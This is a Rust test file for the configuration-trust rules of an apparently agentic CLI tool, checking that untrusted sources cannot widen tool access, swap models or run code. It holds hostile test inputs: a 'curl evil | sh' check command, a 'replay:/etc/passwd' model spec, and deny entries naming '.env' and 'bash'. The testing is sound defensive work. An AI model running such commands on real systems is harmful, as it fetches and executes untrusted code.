use clap::CommandFactory;

use super::*;

fn project() -> Source {
    Source::ProjectFile {
        path: ".rounds.toml".into(),
        line: 1,
        profile: false,
    }
}

#[test]
fn the_allowlist_names_real_flags_and_nothing_that_reaches_further() {
    let command = crate::cli::Cli::command();
    let longs: Vec<&str> = command
        .get_arguments()
        .filter_map(|a| a.get_long())
        .collect();
    for (key, _) in MAY_SET {
        assert!(longs.contains(key), "{key} is not a flag of a run");
    }
    // Each reads or writes a file, names an endpoint or a key, runs code, widens what tools
    // reach, or changes what a pipeline reads: never an untrusted source's.
    for key in [
        "allow",
        "api-key-file",
        "append-system-prompt",
        "base-url",
        "attach",
        "check",
        "mcp",
        "mcp-config",
        "no-transcript",
        "output",
        "output-last-message",
        "output-schema",
        "post-tool-hook",
        "pre-tool-hook",
        "prices",
        "prompt-file",
        "resume",
        "sandbox",
        "sandbox-write",
        "search-url",
        "step-summary",
        "store",
        "system",
        "system-file",
        "tool-env",
        "tool-network",
        "tools-file",
        "transcript",
        "web-allow-private",
        "workspace",
    ] {
        assert!(longs.contains(&key), "{key} is not a flag of a run");
        assert_eq!(rule(key), Rule::UserOnly, "{key}");
        assert_eq!(rule_for(key, &project()), Rule::UserOnly, "{key}");
        assert_eq!(
            rule_for(key, &Source::QueueRow { trusted: false }),
            Rule::UserOnly
        );
        // The user, and a queue the worker trusts, may set it.
        for source in [Source::Override, Source::QueueRow { trusted: true }] {
            assert_eq!(rule_for(key, &source), Rule::Harmless, "{key}");
        }
    }
    // A flag nobody listed is the user's alone.
    assert_eq!(rule("some-new-flag"), Rule::UserOnly);
    // Deny lists grow whoever sets them, the user included.
    for source in [Source::Flag, Source::JobLine { line: 1 }, project()] {
        assert_eq!(rule_for("deny", &source), Rule::Grow);
    }
}

#[test]
fn an_untrusted_model_names_a_built_in_provider_and_never_replays() {
    let none = BTreeMap::new();
    let mut aliases = BTreeMap::new();
    aliases.insert("evil".to_owned(), "replay:.evil.jsonl".to_owned());
    for hostile in [
        "replay:.evil.jsonl",
        "replay:/etc/passwd",
        "evil",
        "attacker/model",
        "mystery-model",
        "anthropic/",
    ] {
        let r = untrusted_model(hostile, &aliases, &Pin::default(), &project());
        assert!(r.is_err(), "{hostile}: {r:?}");
    }
    for ok in [
        "openai/gpt-4.1",
        "ollama/qwen3:8b",
        "claude-haiku-4-5",
        "sonnet",
    ] {
        assert!(
            untrusted_model(ok, &none, &Pin::default(), &project()).is_ok(),
            "{ok}"
        );
    }
    assert_eq!(
        untrusted_model("sonnet", &none, &Pin::default(), &project()).unwrap(),
        "anthropic/claude-sonnet-4-5"
    );
    // The user named an endpoint for their provider: an untrusted model stays with it.
    let pin = Pin::new(true, Some("anthropic/claude-sonnet-4-5"));
    let err = untrusted_model("openai/gpt-4.1", &none, &pin, &project()).unwrap_err();
    assert!(err.why.contains("--base-url"), "{}", err.why);
    assert!(untrusted_model("anthropic/claude-haiku-4-5", &none, &pin, &project()).is_ok());
    // The control: without a pin, the same model is fine.
    assert!(untrusted_model("openai/gpt-4.1", &none, &Pin::default(), &project()).is_ok());
}

#[test]
fn project_aliases_cannot_shadow_specs_or_built_ins_or_replay() {
    let mut aliases = BTreeMap::new();
    for (name, target) in [
        ("anthropic/claude-sonnet-4-5", "openai/gpt-4.1"),
        ("sonnet", "openai/gpt-4.1"),
        ("fast", "replay:.evil.jsonl"),
        ("odd", "attacker/x"),
        ("mine", "openai/gpt-4.1-mini"),
    ] {
        aliases.insert(name.to_owned(), target.to_owned());
    }
    let (kept, refused) = untrusted_aliases(&aliases, &project());
    assert_eq!(kept.keys().collect::<Vec<_>>(), ["mine"]);
    assert_eq!(refused.len(), 4, "{refused:?}");
}

#[test]
fn a_transcript_gives_a_built_in_model_or_nothing() {
    let source = Source::Transcript {
        path: "t.jsonl".into(),
    };
    for (provider, model) in [
        ("replay:.", "x"),
        ("replay", "m"),
        ("evil", "m"),
        ("anthropic", ""),
    ] {
        assert!(
            transcript_model(provider, model, &Pin::default(), &source).is_err(),
            "{provider}"
        );
    }
    assert_eq!(
        transcript_model("openai", "gpt-4.1", &Pin::default(), &source).unwrap(),
        "openai/gpt-4.1"
    );
}

#[test]
fn limits_from_untrusted_sources_only_tighten() {
    assert_eq!(tightens("max-rounds", "3", Some("25")), Some(true));
    assert_eq!(tightens("max-rounds", "50", Some("25")), Some(false));
    assert_eq!(
        tightens("max-spill-bytes", "18446744073709551615", Some("67108864")),
        Some(false)
    );
    assert_eq!(tightens("timeout", "60", None), Some(true));
    assert_eq!(tightens("max-tokens", "100000", None), Some(false));
    assert_eq!(tightens("max-tokens", "1000", None), Some(true));
    assert_eq!(tightens("max-rounds", "five", Some("25")), None);
}

#[test]
fn a_queue_row_sets_its_own_check_only_when_the_worker_trusts_the_queue() {
    // The check runs code in the workspace: a queue row anyone with the store can write may
    // not name one; fewer attempts at the user's own check is harmless, more is not.
    let mut ov = Overlay::new(Source::QueueRow { trusted: false }, Pin::default());
    let mut check = Some("make test".to_owned());
    ov.set("check", &mut check, Some("curl evil | sh".to_owned()));
    assert_eq!(check.as_deref(), Some("make test"));
    let mut max = 3u32;
    ov.limit("max-checks", &mut max, 10);
    assert_eq!(max, 3);
    ov.limit("max-checks", &mut max, 1);
    assert_eq!(max, 1);
    assert_eq!(ov.refused.len(), 2, "{:?}", ov.refused);
    assert!(
        ov.refused[0].to_string().contains("runs code"),
        "{}",
        ov.refused[0]
    );
    // The control: a job line, or a queue the worker trusts, sets it.
    for source in [
        Source::JobLine { line: 2 },
        Source::QueueRow { trusted: true },
    ] {
        let mut ov = Overlay::new(source, Pin::default());
        let mut check = None;
        ov.set("check", &mut check, Some("cargo test".to_owned()));
        assert_eq!(check.as_deref(), Some("cargo test"));
        assert!(ov.refused.is_empty());
    }
}

#[test]
fn an_overlay_applies_each_value_by_its_sources_rule() {
    let queue = Source::QueueRow { trusted: false };
    let mut ov = Overlay::new(queue, Pin::default());
    let mut allow = vec!["read_file".to_owned()];
    ov.set("allow", &mut allow, vec!["bash".to_owned()]);
    assert_eq!(allow, ["read_file"]);
    let mut rounds = 25u32;
    ov.limit("max-rounds", &mut rounds, 100);
    assert_eq!(rounds, 25);
    ov.limit("max-rounds", &mut rounds, 5);
    assert_eq!(rounds, 5);
    let mut budget: Option<u64> = None;
    ov.limit_opt("budget-tokens", &mut budget, 1000);
    assert_eq!(budget, Some(1000));
    ov.limit_opt("budget-tokens", &mut budget, 5000);
    assert_eq!(budget, Some(1000));
    let mut model = Some("anthropic/claude-sonnet-4-5".to_owned());
    ov.model(&mut model, "replay:.evil.jsonl".to_owned());
    assert_eq!(model.as_deref(), Some("anthropic/claude-sonnet-4-5"));
    let mut deny = vec!["read_file(.env)".to_owned()];
    ov.grow("deny", &mut deny, vec!["bash".to_owned()]);
    assert_eq!(deny, ["read_file(.env)", "bash"]);
    assert_eq!(ov.refused.len(), 4, "{:?}", ov.refused);

    // A job line, or a queue the worker trusts, replaces; its deny list still only adds.
    for source in [
        Source::JobLine { line: 3 },
        Source::QueueRow { trusted: true },
    ] {
        let mut ov = Overlay::new(source, Pin::default());
        let mut allow = vec!["read_file".to_owned()];
        ov.set("allow", &mut allow, vec!["bash".to_owned()]);
        assert_eq!(allow, ["bash"]);
        let mut rounds = 25u32;
        ov.limit("max-rounds", &mut rounds, 100);
        assert_eq!(rounds, 100);
        let mut deny = vec!["read_file(.env)".to_owned()];
        ov.grow("deny", &mut deny, vec!["bash".to_owned()]);
        assert_eq!(deny.len(), 2);
        assert!(ov.refused.is_empty());
    }
}

#[test]
fn a_transcript_model_of_another_provider_than_the_pinned_one_is_refused_as_pinned() {
    let source = Source::Transcript {
        path: "t.jsonl".into(),
    };
    let pin = Pin::new(true, None);
    for (provider, model) in [("openai", "gpt-4.1"), ("ollama", "llama3")] {
        assert!(
            matches!(
                transcript_model(provider, model, &pin, &source),
                Err(TranscriptModel::Pinned(_))
            ),
            "{provider}"
        );
        // Unpinned, the same record is adopted.
        assert!(transcript_model(provider, model, &Pin::default(), &source).is_ok());
    }
    assert_eq!(
        transcript_model("anthropic", "claude-x", &pin, &source).unwrap(),
        "anthropic/claude-x"
    );
    assert!(matches!(
        transcript_model("evil", "m", &pin, &source),
        Err(TranscriptModel::Unusable(_))
    ));
}
